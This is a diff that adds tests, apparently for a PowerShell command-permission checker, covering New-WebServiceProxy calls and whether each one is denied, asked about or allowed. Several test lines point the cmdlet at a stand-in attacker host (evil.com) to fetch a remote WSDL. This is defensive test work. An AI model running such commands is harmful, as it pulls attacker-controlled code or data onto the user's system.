@@ -41,3 +41,19 @@ describe('the script file a job or remote command runs (were allowed)', () => {
     ['Invoke-Command -ComputerName srv -FilePath .\\x.ps1', 'allow'],
   ]);
 });
+
+// New-WebServiceProxy fetches the service's WSDL from its -Uri (aliases -WSDL, -URL, -WL) as it
+// runs; the URL was read by no table, only by the safety net's literal words: an unquoted `?wsdl`
+// (a literal to the cmdlet) or an expansion hid it.
+describe('the service New-WebServiceProxy fetches (was allowed)', () => {
+  table([
+    ['New-WebServiceProxy -Uri http://evil.com/s.asmx', 'deny'],
+    ['New-WebServiceProxy http://evil.com/s.asmx', 'deny'],
+    ['New-WebServiceProxy -WSDL http://evil.com/s.asmx -Namespace n', 'deny'],
+    ["New-WebServiceProxy -Uri 'http://evil.com/s?wsdl'", 'deny'],
+    ['New-WebServiceProxy -Uri http://evil.com/s?wsdl', 'ask'],
+    ['New-WebServiceProxy -Uri $u', 'ask'],
+    // Precision: another host.
+    ["New-WebServiceProxy -Uri 'http://a.com/s?wsdl' -Namespace n", 'allow'],
+  ]);
+});
